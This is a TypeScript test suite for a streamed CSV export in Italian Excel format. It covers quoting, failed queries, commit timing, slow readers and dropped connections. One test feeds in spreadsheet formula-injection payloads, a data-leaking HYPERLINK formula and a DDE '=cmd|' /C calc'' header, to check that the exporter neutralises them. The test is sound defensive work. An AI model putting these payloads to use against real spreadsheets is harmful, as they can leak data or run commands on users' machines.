import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, describe, expect, it } from 'vitest';
import Fastify from 'fastify';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { sql, type SQL } from 'drizzle-orm';
import { createTestContext, testDatabaseKind } from '../../test/helper.ts';
import { csvCell, csvSelection, neutraliseCsvCell, sendCsv, type CsvColumns, type CsvExportOptions } from './csv-export.ts';
import type { Transaction } from './client.ts';
import { users } from './schema.ts';

const ctx = await createTestContext();
afterAll(() => ctx.close());

const columns: CsvColumns = {
  email: { header: { it: 'Email', en: 'Email' }, value: csvCell.text(users.email) },
  price: { header: { it: 'Prezzo', en: 'Price' }, value: csvCell.cents(sql`123456`) },
  rate: { header: { it: 'Tasso', en: 'Rate' }, value: csvCell.decimal(sql`1.5::numeric`) },
  day: { header: { it: 'Giorno', en: 'Day' }, value: csvCell.date(sql`'2026-03-01'::date`) },
  // 23:30 UTC on 31 Dec is already 1 Jan in Rome.
  at: { header: { it: 'Ora', en: 'Time' }, value: csvCell.dateTime(sql`'2026-12-31T23:30:00Z'::timestamptz`, 'Europe/Rome') },
  note: { header: { it: 'Nota', en: 'Note' }, value: sql`'a;b "c"'` },
};

async function exportApp(
  query: (tx: Parameters<Parameters<typeof ctx.app.db.transaction>[0]>[0]) => ReturnType<typeof sql>,
  options: Pick<CsvExportOptions, 'before'> = {},
) {
  const app = Fastify();
  app.get('/export', (_request, reply) =>
    sendCsv(reply, { db: ctx.app.db, fileName: 'x y.csv', language: 'it', columns, query, batchSize: 2, ...options }),
  );
  await app.ready();
  return app;
}

describe('the streamed CSV export', () => {
  it('reads every row (cursor batches on PGlite, COPY on PostgreSQL) and writes the Italian Excel dialect', async () => {
    const app = await exportApp((tx) => tx.select(csvSelection(columns)).from(users).orderBy(users.email).getSQL());
    const response = await app.inject({ method: 'GET', url: '/export' });
    await app.close();
    expect(response.headers['content-disposition']).toBe('attachment; filename="x_y.csv"');
    const lines = response.rawPayload.toString('utf8').slice(1).split('\r\n');
    expect(lines[0]).toBe('Email;Prezzo;Tasso;Giorno;Ora;Nota');
    // Three accounts with batches of two: the cursor was fetched more than once.
    expect(lines.slice(1, 4)).toEqual([
      'admin@demo.test;1234,56;1,5;01/03/2026;01/01/2027 00:30;"a;b ""c"""',
      'editor@demo.test;1234,56;1,5;01/03/2026;01/01/2027 00:30;"a;b ""c"""',
      'member@demo.test;1234,56;1,5;01/03/2026;01/01/2027 00:30;"a;b ""c"""',
    ]);
    expect(lines[4]).toBe('');
  });

  it('quotes each cell as csv-stringify does in our dialect (PostgreSQL writes the lines)', async () => {
    const values = ['plain', '', null, 'a;b', 'say "hi"', 'line\nbreak', 'cr\rhere', 'crlf\r\nhere', '"', ';', 'sì, àèìòù €', ' spaced '];
    const pairColumns: CsvColumns = {
      n: { header: { it: 'N', en: 'N' }, value: sql`n` },
      value: { header: { it: 'Valore', en: 'Value' }, value: sql`value` },
    };
    const app = Fastify();
    app.get('/export', (_request, reply) =>
      sendCsv(reply, {
        db: ctx.app.db,
        fileName: 'pairs.csv',
        language: 'it',
        columns: pairColumns,
        query: () =>
          sql`select n::text as c0, v.value as c1
              from jsonb_array_elements_text(${JSON.stringify(values.filter((value) => value !== null))}::jsonb) with ordinality as v(value, n)
              union all select '99', null
              order by 1`,
        batchSize: 5,
      }),
    );
    const response = await app.inject({ method: 'GET', url: '/export' });
    await app.close();
    const present = values.filter((value) => value !== null);
    const records = [...present.map((value, index) => [String(index + 1), value]), ['99', '']].sort((a, b) => (a[0]! < b[0]! ? -1 : 1));
    const body = response.rawPayload.toString('utf8');
    // Read back, every cell is what the query gave (a lone CR or LF inside a cell included).
    expect(parse(body, { delimiter: ';', bom: true, record_delimiter: '\r\n' })).toEqual([['N', 'Valore'], ...records]);
    // Cells without `;`, `"`, CR or LF are not quoted, as csv-stringify writes them.
    const plain = records.filter(([, value]) => !/[;"\r\n]/.test(value!));
    expect(body).toContain(stringify(plain.slice(0, 3), { delimiter: ';', record_delimiter: '\r\n' }));
    expect(body).toContain('\r\n3;"a;b"\r\n4;"say ""hi"""\r\n5;"line\nbreak"\r\n6;"cr\rhere"\r\n7;"crlf\r\nhere"\r\n8;""""\r\n9;";"\r\n');
  });

  it("neutralises formulas: a cell starting with = + - @ tab or CR gets a leading ', a plain signed number does not (issue 30, M5)", async () => {
    const cases: [string, string][] = [
      ['=HYPERLINK("http://x?"&A1,"Click")', '\'=HYPERLINK("http://x?"&A1,"Click")'],
      ['+SUM(A1:A2)', "'+SUM(A1:A2)"],
      ['-2+3', "'-2+3"],
      ['@cmd', "'@cmd"],
      ['\tindented', "'\tindented"],
      ['\rreturn', "'\rreturn"],
      ['-30', '-30'],
      ['+12,50', '+12,50'],
      ['1234,56', '1234,56'],
      ['a=b', 'a=b'],
    ];
    for (const [given, expected] of cases) expect(neutraliseCsvCell(given)).toBe(expected);
    const hostileHeader = '=cmd|\' /C calc\'!A0';
    const app = Fastify();
    app.get('/export', (_request, reply) =>
      sendCsv(reply, {
        db: ctx.app.db,
        fileName: 'formulas.csv',
        language: 'it',
        columns: { n: { header: { it: hostileHeader, en: hostileHeader }, value: sql`n` }, value: { header: { it: 'Valore', en: 'Value' }, value: sql`value` } },
        query: () =>
          sql`select n::text as c0, v.value as c1
              from jsonb_array_elements_text(${JSON.stringify(cases.map(([given]) => given))}::jsonb) with ordinality as v(value, n) order by n`,
      }),
    );
    const response = await app.inject({ method: 'GET', url: '/export' });
    await app.close();
    const records = parse(response.rawPayload.toString('utf8'), { delimiter: ';', bom: true, record_delimiter: '\r\n' }) as string[][];
    expect(records[0]).toEqual([`'${hostileHeader}`, 'Valore']);
    // PostgreSQL writes the cells (cursor on PGlite, COPY on PostgreSQL) exactly as neutraliseCsvCell does.
    expect(records.slice(1).map((record) => record[1])).toEqual(cases.map(([, expected]) => expected));
  });

  it('answers a JSON error, not a cut file, when the query fails', async () => {
    const app = await exportApp(() => sql`select no_such_column from users`);
    const response = await app.inject({ method: 'GET', url: '/export' });
    await app.close();
    expect(response.statusCode).toBe(500);
    expect(response.headers['content-type']).not.toMatch(/text\/csv/);
  });

  it('ends the answer only once its transaction has committed (what `before` recorded is there when the file is)', async () => {
    // A commit that takes a while: a deferred trigger sleeps when the transaction commits.
    await ctx.app.db.execute(sql`create table if not exists export_commit_probe (tag text not null)`);
    await ctx.app.db.execute(
      sql.raw(`create or replace function export_commit_probe_slow() returns trigger language plpgsql as $$ begin perform pg_sleep(0.3); return null; end $$`),
    );
    await ctx.app.db.execute(sql`drop trigger if exists export_commit_probe_slow on export_commit_probe`);
    await ctx.app.db.execute(
      sql`create constraint trigger export_commit_probe_slow after insert on export_commit_probe deferrable initially deferred for each row execute function export_commit_probe_slow()`,
    );
    const app = await exportApp((tx) => tx.select(csvSelection(columns)).from(users).orderBy(users.email).getSQL(), {
      before: async (tx) => {
        await tx.execute(sql`insert into export_commit_probe (tag) values ('recorded')`);
      },
    });
    try {
      const response = await app.inject({ method: 'GET', url: '/export' });
      expect(response.statusCode).toBe(200);
      expect(response.rawPayload.toString('utf8').split('\r\n')).toHaveLength(5);
      const probe = await ctx.app.db.execute(sql`select count(*)::int as n from export_commit_probe where tag = 'recorded'`);
      expect((probe.rows[0] as { n: number }).n).toBe(1);
    } finally {
      await app.close();
    }
  });

  it('waits for a slow reader: no more rows are read while the answer is not read, and every row arrives exactly once', async () => {
    // About 10 MB on PGlite, 30 MB on PostgreSQL: far more than the socket buffers between PostgreSQL,
    // the server and a reader that does not read can hold (on loopback they took ~9 MB).
    const total = testDatabaseKind === 'pglite' ? 40_000 : 120_000;
    const probeColumns: CsvColumns = {
      // Headers only: the query below yields c0 and c1 itself.
      n: { header: { it: 'N', en: 'N' }, value: sql`n` },
      pad: { header: { it: 'Riempimento', en: 'Padding' }, value: sql`pad` },
    };
    // The export's transaction, counting its statements (DECLARE, then one FETCH per batch).
    let fetches = 0;
    const counting = new Proxy(ctx.app.db, {
      get(target, key, receiver) {
        if (key !== 'transaction') return Reflect.get(target, key, receiver) as unknown;
        return (callback: (tx: Transaction) => Promise<unknown>) =>
          target.transaction((tx) =>
            callback(
              new Proxy(tx, {
                get(inner, innerKey, innerReceiver) {
                  const value = Reflect.get(inner, innerKey, innerReceiver) as unknown;
                  if (innerKey === 'execute') {
                    return (query: SQL) => {
                      fetches += 1;
                      return inner.execute(query);
                    };
                  }
                  return typeof value === 'function' ? (value as (...args: unknown[]) => unknown).bind(inner) : value;
                },
              }),
            ),
          );
      },
    });
    const app = Fastify();
    app.get('/export', (_request, reply) =>
      sendCsv(reply, {
        db: counting,
        fileName: 'probe.csv',
        language: 'it',
        columns: probeColumns,
        query: () => sql`select n::text as c0, repeat('x', 250) as c1 from generate_series(1, ${total}) as n`,
        batchSize: 500,
      }),
    );
    await app.listen({ host: '127.0.0.1', port: 0 });
    /**
     * Rows the server has read so far: on PGlite, fetched from its cursor; on PostgreSQL, where the
     * rows come from COPY, the rows the COPY has produced (`pg_stat_progress_copy`).
     */
    const probe = async () => {
      if (testDatabaseKind === 'pglite') return Math.max(0, fetches - 1) * 500;
      const progress = await ctx.app.db.execute(sql`select coalesce(max(tuples_processed), 0)::int as n from pg_stat_progress_copy`);
      return (progress.rows[0] as { n: number }).n;
    };
    try {
      const { port } = app.server.address() as AddressInfo;
      const response = await new Promise<http.IncomingMessage>((resolve, reject) => {
        http.get({ host: '127.0.0.1', port, path: '/export' }, resolve).on('error', reject);
      });
      response.pause();
      // Wait until the server stops reading the cursor (or has read everything: then this test fails).
      let read = await probe();
      for (let attempt = 0; attempt < 100; attempt += 1) {
        await new Promise((resolve) => setTimeout(resolve, 200));
        const now = await probe();
        if (now > 0 && now === read) break;
        read = now;
      }
      expect(read).toBeGreaterThan(0);
      expect(read).toBeLessThan(total);

      const chunks: Buffer[] = [];
      response.resume();
      for await (const chunk of response) chunks.push(chunk as Buffer);
      const records = parse(Buffer.concat(chunks), { delimiter: ';', bom: true, from_line: 2 }) as string[][];
      expect(records).toHaveLength(total);
      const numbers = records.map((record) => Number(record[0]));
      expect(new Set(numbers).size).toBe(total);
      expect(Math.min(...numbers)).toBe(1);
      expect(Math.max(...numbers)).toBe(total);
      expect(records.every((record) => record[1] === 'x'.repeat(250))).toBe(true);
    } finally {
      await app.close();
    }
  });
  it('stops reading when the reader goes away mid-file, and the next export works', async () => {
    const app = Fastify();
    app.get('/export', (_request, reply) =>
      sendCsv(reply, {
        db: ctx.app.db,
        fileName: 'abandoned.csv',
        language: 'it',
        columns: { n: { header: { it: 'N', en: 'N' }, value: sql`n` }, pad: { header: { it: 'R', en: 'P' }, value: sql`pad` } },
        query: () => sql`select n::text as c0, repeat('y', 250) as c1 from generate_series(1, 200000) as n`,
        batchSize: 500,
      }),
    );
    await app.listen({ host: '127.0.0.1', port: 0 });
    try {
      const { port } = app.server.address() as AddressInfo;
      // Read the first bytes, then hang up.
      await new Promise<void>((resolve, reject) => {
        const request = http.get({ host: '127.0.0.1', port, path: '/export' }, (response) => {
          response.once('data', () => {
            request.destroy();
            resolve();
          });
        });
        request.on('error', (error: NodeJS.ErrnoException) => (error.code === 'ECONNRESET' ? resolve() : reject(error)));
      });
      // The server ends its side: on PostgreSQL no COPY is left running (its connection was ended,
      // not returned to the pool mid-COPY); on both, the next export of the same table works.
      for (let attempt = 0; testDatabaseKind === 'postgres' && attempt < 100; attempt += 1) {
        const running = await ctx.app.db.execute(sql`select count(*)::int as n from pg_stat_progress_copy`);
        if ((running.rows[0] as { n: number }).n === 0) break;
        await new Promise((resolve) => setTimeout(resolve, 100));
      }
      if (testDatabaseKind === 'postgres') {
        const running = await ctx.app.db.execute(sql`select count(*)::int as n from pg_stat_progress_copy`);
        expect((running.rows[0] as { n: number }).n).toBe(0);
      }
      const again = await exportApp((tx) => tx.select(csvSelection(columns)).from(users).orderBy(users.email).getSQL());
      const response = await again.inject({ method: 'GET', url: '/export' });
      await again.close();
      expect(response.statusCode).toBe(200);
      expect(response.rawPayload.toString('utf8').split('\r\n')).toHaveLength(5);
    } finally {
      await app.close();
    }
  });
});
